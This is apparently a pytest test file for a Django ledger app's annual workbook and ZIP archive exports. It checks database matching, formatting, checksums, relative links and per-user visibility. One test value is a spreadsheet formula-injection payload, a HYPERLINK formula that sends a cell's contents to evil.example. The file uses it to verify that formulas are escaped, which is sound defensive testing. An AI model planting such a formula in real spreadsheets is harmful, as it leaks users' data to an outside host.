"""The annual workbook and the ZIP archive: contents match the database, escaping, offline index, checksums."""

from __future__ import annotations

import csv
import datetime
import hashlib
import io
import re
import shutil
import subprocess
import zipfile
from html.parser import HTMLParser
from urllib.parse import unquote

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from ledger import services
from ledger.exports import safe_text
from ledger.models import Event, Slot
from tests.conftest import IN_CI
from tests.factories import EventFactory, TaskFactory

from . import samples

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
def year_of_dossiers(world, campaign_a):
    """Seven dossiers in 2026 (one with a formula-like title, one with files, one late), one in 2025."""
    task = TaskFactory(campaign=campaign_a, number="3.", title="开展志愿服务")
    events = [
        EventFactory(
            campaign=campaign_a,
            organization=world.dept_a if i % 2 else world.unit_a,
            start_date=datetime.date(2026, 1 + i, 3),
            category=["meeting", "study", "volunteer"][i % 3],
            title=f"第{i}次活动",
        )
        for i in range(6)
    ]
    events.append(EventFactory(campaign=campaign_a, start_date=datetime.date(2026, 7, 1), title=INJECTION))
    EventFactory(campaign=campaign_a, start_date=datetime.date(2025, 12, 30), title="去年的活动")
    events[0].tasks.add(task)
    services.evidence_add(
        event=events[0],
        slot=Slot.PLAN,
        uploads=[services.Upload("方案.pdf", samples.pdf()), services.Upload("通知.docx", samples.docx())],
        uploaded_by=None,
    )
    services.evidence_add(
        event=events[0],
        slot=Slot.PHOTO,
        uploads=[services.Upload(f"{i}.jpg", samples.jpeg(seed=50 + i)) for i in range(3)],
        uploaded_by=None,
    )
    services.evidence_add(
        event=events[1], slot=Slot.SIGNIN, uploads=[services.Upload("签到.xlsx", samples.xlsx())], uploaded_by=None
    )
    services.event_submit(event=events[0], actor=None)
    Event.objects.filter(pk=events[2].pk).update(is_late_entry=True)
    return events


def test_workbook_opens_in_openpyxl_with_rows_matching_the_database(tmp_path, campaign_a, year_of_dossiers):
    path = tmp_path / "台账.xlsx"
    call_command(
        "export_ledger", campaign=campaign_a.pk, year=2026, format="xlsx", output=str(path), include_unfinished=True
    )
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["台账目录", "任务完成情况", "分类统计"]
    ws = wb["台账目录"]
    header = [c.value for c in ws[1]]
    assert header[:6] == ["档号", "日期", "活动名称", "组织单位", "类别", "关联任务"]
    assert header[6:12] == ["方案通知", "签到表", "活动图片", "总结简报", "媒体报道", "其他"]
    assert header[12:] == ["完整性", "补录", "状态"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    db_count = Event.objects.filter(campaign=campaign_a, start_date__year=2026).count()
    assert len(rows) == db_count == 7
    first = next(r for r in rows if r[0] == "2026-t-a-0001")
    assert first[1] == datetime.datetime(2026, 1, 3)  # noqa: DTZ001 - Excel dates carry no zone
    assert first[5] == "3" and first[6:12] == (2, 0, 3, 0, 0, 0)
    assert first[12] == "缺：总结简报" and first[14] == "已提交"
    assert [r[13] for r in rows].count("补录") == 1
    # The formula-like title comes back as text, not as a formula.
    cell = next(c for c in ws["C"] if c.value and "HYPERLINK" in str(c.value))
    assert cell.data_type == "s" and cell.value == "'" + INJECTION
    # Ready to print: frozen header, A4 landscape, column widths.
    assert ws.freeze_panes == "A2"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9
    assert ws.column_dimensions["C"].width > 30
    assert ws["B2"].number_format == 'yyyy"年"m"月"d"日"'
    tasks = list(wb["任务完成情况"].iter_rows(min_row=2, values_only=True))
    assert len(tasks) == 1 and tasks[0][1] == "开展志愿服务" and tasks[0][7] == 1
    stats = list(wb["分类统计"].iter_rows(min_row=2, max_row=14, values_only=True))
    assert stats[-1][0] == "合计" and stats[-1][-1] == 7


def test_workbook_converts_in_libreoffice_headless_where_installed(tmp_path, campaign_a, year_of_dossiers):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    # `make test` installs it (scripts/system-deps.sh); only a developer's machine without root may lack it.
    assert soffice or not IN_CI, "CI=true but LibreOffice is missing: scripts/system-deps.sh test installs it"
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed here")
    path = tmp_path / "ledger.xlsx"
    call_command(
        "export_ledger", campaign=campaign_a.pk, year=2026, format="xlsx", output=str(path), include_unfinished=True
    )
    subprocess.run(
        [
            soffice,
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        check=True,
        timeout=120,
        capture_output=True,
    )
    with open(tmp_path / "ledger.csv", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) - 1 == Event.objects.filter(campaign=campaign_a, start_date__year=2026).count()
    assert any(r[2] == "'" + INJECTION for r in rows)


def test_safe_text_escapes_every_formula_prefix():
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_text(value).startswith("'")
    assert safe_text("文明交通") == "文明交通"


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        if tag == "a":
            self.hrefs.extend(v for k, v in attrs if k == "href")


def test_zip_archive_matches_its_checksums_and_every_link_resolves(tmp_path, campaign_a, year_of_dossiers):
    path = tmp_path / "archive.zip"
    call_command(
        "export_ledger", campaign=campaign_a.pk, year=2026, format="zip", output=str(path), include_unfinished=True
    )
    with zipfile.ZipFile(path) as zf:
        names = set(zf.namelist())
        assert "2026年度台账.xlsx" in names and "index.html" in names and "SHA256SUMS" in names
        sums = {}
        for line in zf.read("SHA256SUMS").decode().splitlines():
            digest, name = line.split("  ", 1)
            sums[name] = digest
        assert set(sums) == names - {"SHA256SUMS"}
        for name, digest in sums.items():
            assert hashlib.sha256(zf.read(name)).hexdigest() == digest, name
        files = sorted(n for n in names if n.startswith("2026年/"))
        assert len(files) == 6
        assert "2026年/会议/2026-t-a-0001-第0次活动/方案通知-01.pdf" in files
        assert "2026年/会议/2026-t-a-0001-第0次活动/活动图片-03.jpg" in files
        assert zf.read("2026年/会议/2026-t-a-0001-第0次活动/方案通知-01.pdf") == samples.pdf()
        parser = _Links()
        parser.feed(zf.read("index.html").decode("utf-8"))
        assert len(parser.hrefs) == len(files) + 2
        for href in parser.hrefs:
            assert not re.match(r"^[a-z]+:|^/", href), href
            assert unquote(href) in names, href
        assert openpyxl.load_workbook(io.BytesIO(zf.read("2026年度台账.xlsx")))["台账目录"].max_row == 8


def _export_through_a_job(client: Client, url_name: str, capture, **data) -> bytes:
    """Press an export button (it starts a job, run here in-process on commit), then download the job's file."""
    with capture(execute=True):
        r = client.post(reverse(url_name), data)
    assert r.status_code == 302 and r["Location"].startswith("/jobs/"), r
    page = client.get(r["Location"])
    assert "已完成" in page.content.decode()
    r = client.get(r["Location"] + "download/")
    assert r.status_code == 200
    assert "filename*=utf-8''" in r["Content-Disposition"]
    return b"".join(r.streaming_content)


def test_download_buttons_export_only_what_the_user_sees(
    world, campaign_a, year_of_dossiers, django_capture_on_commit_callbacks
):
    c = Client()
    c.force_login(world.user("a_liaison"))
    body = _export_through_a_job(
        c,
        "ledger:export_workbook",
        django_capture_on_commit_callbacks,
        campaign=campaign_a.pk,
        year=2026,
        include_unfinished="1",
    )
    ws = openpyxl.load_workbook(io.BytesIO(body))["台账目录"]
    visible = Event.objects.filter(campaign=campaign_a, start_date__year=2026, organization=world.dept_a).count()
    assert ws.max_row - 1 == visible == 3
    body = _export_through_a_job(
        c,
        "ledger:export_archive",
        django_capture_on_commit_callbacks,
        campaign=campaign_a.pk,
        year=2026,
        include_unfinished="1",
    )
    with zipfile.ZipFile(io.BytesIO(body)) as zf:
        assert not any("第0次活动" in n for n in zf.namelist())
        assert any("第1次活动/签到表-01.xlsx" in n for n in zf.namelist())
